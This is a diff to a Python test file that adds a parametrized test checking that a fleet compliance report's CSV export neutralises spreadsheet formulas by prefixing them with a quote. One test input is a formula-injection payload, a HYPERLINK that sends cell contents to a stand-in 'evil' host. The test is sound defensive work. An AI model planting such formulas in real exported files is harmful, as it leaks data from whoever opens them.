@@ -12,6 +12,7 @@ from importlib import resources
 from pathlib import Path
 
 import jsonschema
+import pytest
 
 from fleet.catalog import default_catalog, load_catalog
 from fleet.compliance import NodeFacts, SeenReport, report_document, schema_text
@@ -130,3 +131,19 @@ def test_the_evidence_file_keeps_each_node_on_its_own_row() -> None:
     rows = list(csv.DictReader(io.StringIO(render(doc, "csv").decode(), newline="")))
     assert [(r["Node"], r["Pool"]) for r in rows] == [("n1", hostile), ("n1", "default")]
     assert all(None not in r and None not in r.values() for r in rows)
+
+
+@pytest.mark.parametrize(
+    "formula", ['=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
+)
+def test_the_evidence_file_keeps_a_nodes_formulas_as_text(formula: str) -> None:
+    # Opened in a spreadsheet, a cell starting with = + - @ would run as a formula.
+    report = HealthReport.from_dict(
+        {**report_doc("n1", update="rolled-back"), "reason": formula, "bundle": formula}
+    )
+    node = NodeFacts("n1", formula, "healthy", "unattested", False, 0, 0, None,
+                     (SeenReport(0, report, None),))  # fmt: skip
+    doc = report_document("fleet", [node], default_catalog(), 1_800_000_000, KEY_ID, "ed25519")
+    (row,) = csv.DictReader(io.StringIO(render(doc, "csv").decode(), newline=""))
+    assert row["Pool"] == "'" + formula
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
